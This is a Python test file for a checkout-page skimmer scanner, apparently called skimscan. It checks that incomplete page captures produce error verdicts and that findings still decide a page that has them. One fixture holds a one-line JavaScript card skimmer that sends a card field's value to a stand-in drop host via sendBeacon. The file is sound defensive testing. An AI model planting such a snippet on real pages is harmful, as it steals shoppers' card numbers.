"""A page skimscan could not exercise is never `clean` (issue 13, item 5): what the capture
could not do (a main thread that never yields, a shopper out of time, a card number that would
not type) turns a clean verdict into `error` with the reason, exit 3; findings still decide a
page that has them."""

from __future__ import annotations

from skimscan.cli import EXIT_INCOMPLETE, exit_code
from skimscan.models import (
    Canary,
    PageCapture,
    Report,
    ScriptKind,
    ScriptSource,
    Verdict,
)
from skimscan.pipeline import Engine, EngineOptions
from skimscan.policy.policy import SitePolicy
from skimscan.scanner import analyze_capture

PAGE = "https://shop.example/checkout"
SKIMMER = ("document.querySelector('#cc').addEventListener('change', function (e) {"
           " navigator.sendBeacon('https://drop.test/c', e.target.value); });")


def judged(incomplete: tuple[str, ...], code: str = "var ready = true;"):  # type: ignore[no-untyped-def]
    capture = PageCapture(
        url=PAGE, final_url=PAGE, status=200,
        scripts=(ScriptSource("s1", code, "https://shop.example/app.js", ScriptKind.EXTERNAL),),
        canary=Canary.generate(seed=3), incomplete=incomplete)
    return analyze_capture(capture, Engine(EngineOptions(use_disk_cache=False, jobs=1)),
                           SitePolicy())


def test_nothing_found_on_a_page_that_could_not_be_exercised_is_an_error() -> None:
    report = judged(("the page's main thread did not respond",))
    assert report.verdict is Verdict.ERROR
    assert report.error and "main thread did not respond" in report.error
    full = Report(targets=(report,), tool_version="test")
    assert exit_code(full, "high", "low") == EXIT_INCOMPLETE


def test_a_complete_capture_with_nothing_found_is_clean() -> None:
    assert judged(()).verdict is Verdict.CLEAN


def test_findings_still_decide_a_page_that_has_them() -> None:
    report = judged(("the simulated shopper did not finish within 20s",), SKIMMER)
    assert report.verdict in (Verdict.SUSPICIOUS, Verdict.MALICIOUS) and report.error is None
